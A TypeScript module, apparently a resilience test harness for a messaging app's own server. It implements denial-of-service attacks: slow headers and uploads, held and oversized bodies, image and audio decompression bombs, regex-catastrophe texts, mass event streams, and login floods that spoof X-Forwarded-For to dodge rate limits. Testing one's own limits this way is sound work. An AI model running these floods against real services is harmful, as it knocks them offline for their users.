import { readFile } from 'node:fs/promises';
import { request, type ClientRequest } from 'node:http';
import { connect } from 'node:net';
import { setTimeout as delay } from 'node:timers/promises';
import sharp from 'sharp';

export interface AttackOrder {
  attack: Attack;
  url: string;
  /** Separates its addresses from other attacks', whose limits may be reached. */
  number: number;
  userId: number;
  /** The attacker's account, whose inbox has filters. */
  username: string;
  /** The attacker's session. */
  cookie: string;
  /** For `sound bombs`. */
  sounds: readonly string[];
}

/** By status; `none` for connections closed without a response. */
export type AttackReport = Record<string, number>;

const LARGE_REQUESTS_PER_SECOND = 2;
const MAX_LARGE_REQUESTS = 8;
const HELD_REQUESTS = 60;
const HELD_BYTES = 8_000_000;
const REOPEN_PAUSE_MS = 250;
const SLOW_HEADS = 500;
const SLOW_HEAD_PAUSE_MS = 1_000;
const LARGE_HEADS_PER_SECOND = 100;
/** Just below and above what is refused. */
const HEAD_BYTES = [15_000, 40_000];
const BOMBS_PER_SECOND = 4;
const MAX_BOMBS = 8;
/** More than media lets wait. */
const NETWORKS = 33;
const RECIPIENTS = 50;
const TEXTS_PER_SECOND = 20;
const MAX_SMALL_REQUESTS = 40;
const STREAMS = 10_000;
const STREAMS_PER_SECOND = 500;

/** Before fairness, 150 logins a second from separate networks slowed others' logins from 29 ms to 6.6 s. */
const LOGINS_PER_SECOND = 150;
const MAX_LOGINS = 600;
const SLOW_UPLOADS = 64;
const SLOW_BYTES = 7_000_000;
/** Just fast enough to be accepted. */
const SLOW_PIECE = 4_600;
const SLOW_PIECE_PAUSE_MS = 1_000;
const PICTURES_PER_SECOND = 50;
const FILTERS_PER_SECOND = 4;

/** Address of each call. */
type Origin = (attack: number, call: number) => string;

const hex = (value: number): string => value.toString(16);
const ONE_ADDRESS: Origin = (attack) => `203.0.113.${attack + 1}`;
/** 256 networks. */
const A_LINE: Origin = (attack, call) => `2001:db8:${hex(attack)}:${hex(call % 256)}::1`;
const THIRTY_THREE_OF_A_LINE: Origin = (attack, call) => `2001:db8:${hex(attack)}:${hex(call % NETWORKS)}::1`;
/** 65,536 networks. */
const A_TUNNEL: Origin = (attack, call) => `2001:db8:${hex(attack)}:${hex((call * 257) % 65_536)}::1`;
const EIGHT_SITES: Origin = (attack, call) => `172.${16 + (attack % 16)}.${call % 8}.${1 + (call % 254)}`;

const report: AttackReport = {};
const count = (outcome: string): void => {
  report[outcome] = (report[outcome] ?? 0) + 1;
  // The parent may be gone, which ends this process too.
  process.send?.(report, undefined, undefined, () => undefined);
};

let calls = 0;

interface Target {
  method: string;
  path: string;
  headers?: Record<string, string | number>;
}

/** The caller writes the body. */
function open(
  { url, attack, number, cookie }: AttackOrder,
  { method, path, headers = {} }: Target,
  onEnd: () => void,
): ClientRequest {
  const { hostname, port, origin } = new URL(url);
  calls += 1;
  const client = request({
    hostname,
    port,
    method,
    path,
    agent: false,
    headers: {
      origin,
      'x-forwarded-for': ATTACKS[attack].from(number, calls),
      'x-requested-with': 'XMLHttpRequest',
      cookie,
      ...headers,
    },
  });
  let answered = false;
  client.on('response', (response) => {
    answered = true;
    count(String(response.statusCode));
    response.resume().once('close', () => client.destroy());
  });
  client.on('error', () => undefined);
  client.once('close', () => {
    if (!answered) count('none');
    onEnd();
  });
  return client;
}

/** Endless, with bounded concurrency. */
async function goOn(
  order: AttackOrder,
  { perSecond, atOnce }: { perSecond: number; atOnce: number },
  requests: readonly (Target & { body?: Buffer })[],
): Promise<void> {
  let underWay = 0;
  for (let sent = 0; ;) {
    const next = requests[sent % requests.length];
    if (next && underWay < atOnce) {
      const { body, ...target } = next;
      sent += 1;
      underWay += 1;
      const headers = { ...target.headers, ...(body && { 'content-length': body.length }) };
      open(order, { ...target, headers }, () => (underWay -= 1)).end(body);
    }
    await delay(1_000 / perSecond);
  }
}

const JSON_BODY = { 'content-type': 'application/json' };
const json = (method: string, path: string, text: string) => ({
  method,
  path,
  headers: JSON_BODY,
  body: Buffer.from(text),
});

function largeBodies({ userId }: AttackOrder) {
  const keys = Array.from({ length: 600_000 }, (_, index) => `"k${index}":0`).join(',');
  const arrays = 4_000_000;
  return [
    json('PATCH', '/api/users', `{${keys}}`),
    json('POST', '/api/messages', `{"userId":${userId},"content":${'['.repeat(arrays)}${']'.repeat(arrays)}}`),
    json('POST', '/api/messages', `{"userId":${userId},${keys}}`),
  ];
}

/** Half messages, half voice previews. */
async function holdBodies(order: AttackOrder): Promise<never> {
  const boundary = 'attack';
  const form = `--${boundary}\r\ncontent-disposition: form-data; name="audio"; filename="a.webm"\r\n\r\n`;
  const targets = [
    { path: '/api/messages', type: 'application/json', start: `{"userId":${order.userId},"content":"` },
    { path: '/api/audio/preview', type: `multipart/form-data; boundary=${boundary}`, start: form },
  ].map(({ start, path, type }) => {
    const body = Buffer.alloc(HELD_BYTES - 1, 'a');
    body.write(start);
    return { body, method: 'POST', path, headers: { 'content-type': type, 'content-length': HELD_BYTES } };
  });
  let held = 0;
  for (let opened = 0; ;) {
    const next = targets[opened % targets.length];
    if (next && held < HELD_REQUESTS) {
      const { body, ...target } = next;
      opened += 1;
      held += 1;
      open(order, target, () => (held -= 1)).write(body);
    }
    // The first sixty at once, then reopened slowly.
    if (opened >= HELD_REQUESTS) await delay(REOPEN_PAUSE_MS);
    else await delay(20);
  }
}

/** Requests that never end, a header at a time. */
async function sendSlowHeads({ url }: AttackOrder): Promise<never> {
  const { hostname, port } = new URL(url);
  let held = 0;
  const hold = (): void => {
    held += 1;
    const socket = connect({ host: hostname, port: Number(port) });
    socket.write('GET /api/user HTTP/1.1\r\nHost: localhost\r\n');
    const timer = setInterval(() => socket.write('X-Slow: a\r\n'), SLOW_HEAD_PAUSE_MS);
    socket.on('data', (answer) => count(answer.toString('latin1', 9, 12)));
    socket.on('error', () => undefined);
    socket.once('close', () => {
      clearInterval(timer);
      held -= 1;
    });
  };
  for (;;) {
    if (held < SLOW_HEADS) hold();
    await delay(2);
  }
}

const largeHeads = () =>
  HEAD_BYTES.map((bytes) => ({ method: 'GET', path: '/api/user', headers: { 'x-large': 'a'.repeat(bytes) } }));

const readSample = (name: string): Promise<Buffer> =>
  readFile(new URL(`../../../services/media/tests/samples/${name}`, import.meta.url));

/** Small files that are huge when decoded. */
async function pictureBombs({ userId }: AttackOrder) {
  const names = ['bomb-20000x20000.png', 'animated.gif', 'large.jpg'];
  return Promise.all(
    names.map(async (name) => {
      const imageUrl = `data:image/${name.slice(-3)};base64,${(await readSample(name)).toString('base64')}`;
      return json('POST', '/api/messages', JSON.stringify({ userId, content: 'a', imageUrl }));
    }),
  );
}

/** Within all limits, more than a second to decode. */
const LARGEST = { width: 7_070, height: 7_070, channels: 3, background: 'black' } as const;

/** Spread over inboxes to avoid proofs of work. As a visitor: only networks count. */
async function largestPictures({ userId }: AttackOrder) {
  const picture = await sharp({ create: LARGEST }).toColourspace('b-w').png({ compressionLevel: 9 }).toBuffer();
  const imageUrl = `data:image/png;base64,${picture.toString('base64')}`;
  return Array.from({ length: RECIPIENTS }, (_, index) => {
    const request = json('POST', '/api/messages', JSON.stringify({ userId: userId - index, content: 'a', imageUrl }));
    return { ...request, headers: { ...request.headers, cookie: '' } };
  });
}

async function soundBombs({ sounds }: AttackOrder) {
  return Promise.all(
    sounds.map(async (name) => {
      const form = new FormData();
      form.set('audio', new File([new Uint8Array(await readSample(name))], name));
      form.set('voiceType', 'male');
      const encoded = new Response(form);
      const type = encoded.headers.get('content-type') ?? '';
      const body = Buffer.from(await encoded.arrayBuffer());
      return { method: 'POST', path: '/api/audio/preview', headers: { 'content-type': type }, body };
    }),
  );
}

/** Catastrophic for nested repetition in a pattern. */
function textsAgainstPatterns({ userId }: AttackOrder) {
  const texts = [
    'a'.repeat(1_000),
    `${'ـ'.repeat(999)}!`,
    `http://${'a.'.repeat(490)}`,
    `${'aA1 '.repeat(249)}\u202e`,
    `${'\u064b'.repeat(999)}x`,
    `${' '.repeat(998)}\u00a0x`,
    `${'@a.'.repeat(333)}`,
  ];
  return texts.flatMap((text) => [
    json('POST', '/api/messages', JSON.stringify({ userId, content: text })),
    json('POST', '/api/chat', JSON.stringify({ message: text })),
    { method: 'GET', path: `/api/messages?q=${encodeURIComponent(text.slice(0, 100))}` },
  ]);
}

async function openStreams(order: AttackOrder): Promise<void> {
  for (let opened = 0; opened < STREAMS; opened += 1) {
    open(order, { method: 'GET', path: '/api/notifications/stream' }, () => undefined).end();
    await delay(1_000 / STREAMS_PER_SECOND);
  }
}

/** Unknown accounts, which take as long as known ones. */
const guesses = () =>
  Array.from({ length: 1_000 }, (_, index) =>
    json('POST', '/api/login', JSON.stringify({ username: `nobody${index}`, password: 'a guess' })),
  );

/** Pictures that arrive in tiny pieces. */
async function sendSlowly(order: AttackOrder): Promise<never> {
  const start = Buffer.from(`{"userId":${order.userId},"content":"a","imageUrl":"data:image/png;base64,`);
  const piece = Buffer.alloc(SLOW_PIECE, 'A');
  const headers = { ...JSON_BODY, 'content-length': SLOW_BYTES };
  let held = 0;
  for (;;) {
    if (held < SLOW_UPLOADS) {
      held += 1;
      const upload = open(order, { method: 'POST', path: '/api/messages', headers }, () => {
        clearInterval(timer);
        held -= 1;
      });
      const timer = setInterval(() => upload.write(piece), SLOW_PIECE_PAUSE_MS);
      upload.write(start);
    }
    await delay(20);
  }
}

/** Each of another size or message, so that none is cached. */
const picturesToDraw = ({ username }: AttackOrder) =>
  ['128', '256', '512', '1024'].flatMap((size) => [
    { method: 'GET', path: `/api/users/${username}/qr.png?size=${size}&from=${Math.random()}` },
    { method: 'GET', path: `/og/${username}.png?from=${Math.random()}` },
  ]);

/** Longest after folding, for calls that scan all. */
function textsAgainstFilters({ userId }: AttackOrder) {
  const inBrackets = Array.from({ length: 700 }, (_, index) => String.fromCodePoint(0x249c + (index % 26))).join('');
  const message = (content: string) => json('POST', '/api/messages', JSON.stringify({ userId, content }));
  const words = (seed: number): string[] =>
    Array.from({ length: 100 }, (_, index) => `${hex(seed)}${'abcdefghij'.repeat(5).slice(index % 40, 45)}`);
  return Array.from({ length: 20 }, (_, seed) => [
    message(inBrackets),
    message('\ufdfa'.repeat(700)),
    json(
      'PUT',
      '/api/filters',
      JSON.stringify({ words: words(seed), lists: seed % 2 === 0 ? ['insults', 'scams'] : [] }),
    ),
    { method: 'GET', path: `/api/messages?q=${encodeURIComponent('ا ب ت ث ج ح خ د')}` },
    { method: 'GET', path: '/api/messages/sent?filter=read' },
  ]).flat();
}

interface AttackKind {
  from: Origin;
  run: (order: AttackOrder) => Promise<void>;
}

const logIn = (order: AttackOrder): Promise<void> =>
  goOn(order, { perSecond: LOGINS_PER_SECOND, atOnce: MAX_LOGINS }, guesses());
const draw = (order: AttackOrder): Promise<void> =>
  goOn(order, { perSecond: PICTURES_PER_SECOND, atOnce: MAX_SMALL_REQUESTS }, picturesToDraw(order));

/** Each runs until its process ends, and reports every answer. */
export const ATTACKS = {
  'large bodies': {
    from: ONE_ADDRESS,
    run: (order) =>
      goOn(order, { perSecond: LARGE_REQUESTS_PER_SECOND, atOnce: MAX_LARGE_REQUESTS }, largeBodies(order)),
  },
  'held bodies': { from: ONE_ADDRESS, run: holdBodies },
  'slow heads': { from: ONE_ADDRESS, run: sendSlowHeads },
  'large heads': {
    from: ONE_ADDRESS,
    run: (order) => goOn(order, { perSecond: LARGE_HEADS_PER_SECOND, atOnce: MAX_SMALL_REQUESTS }, largeHeads()),
  },
  'picture bombs': {
    from: ONE_ADDRESS,
    run: async (order) => goOn(order, { perSecond: BOMBS_PER_SECOND, atOnce: MAX_BOMBS }, await pictureBombs(order)),
  },
  'largest pictures from a line': {
    from: THIRTY_THREE_OF_A_LINE,
    run: async (order) => goOn(order, { perSecond: BOMBS_PER_SECOND, atOnce: NETWORKS }, await largestPictures(order)),
  },
  'sound bombs': {
    from: ONE_ADDRESS,
    run: async (order) => goOn(order, { perSecond: BOMBS_PER_SECOND, atOnce: MAX_BOMBS }, await soundBombs(order)),
  },
  'texts against patterns': {
    from: ONE_ADDRESS,
    run: (order) =>
      goOn(order, { perSecond: TEXTS_PER_SECOND, atOnce: MAX_SMALL_REQUESTS }, textsAgainstPatterns(order)),
  },
  'texts against filters': {
    from: A_LINE,
    run: (order) =>
      goOn(order, { perSecond: FILTERS_PER_SECOND, atOnce: MAX_SMALL_REQUESTS }, textsAgainstFilters(order)),
  },
  'event streams': { from: ONE_ADDRESS, run: openStreams },
  'logins from a line': { from: A_LINE, run: logIn },
  'logins from a tunnel': { from: A_TUNNEL, run: logIn },
  'logins from eight sites': { from: EIGHT_SITES, run: logIn },
  'slow uploads from a tunnel': { from: A_TUNNEL, run: sendSlowly },
  'slow uploads from eight sites': { from: EIGHT_SITES, run: sendSlowly },
  'drawings from a tunnel': { from: A_TUNNEL, run: draw },
} satisfies Record<string, AttackKind>;
export type Attack = keyof typeof ATTACKS;
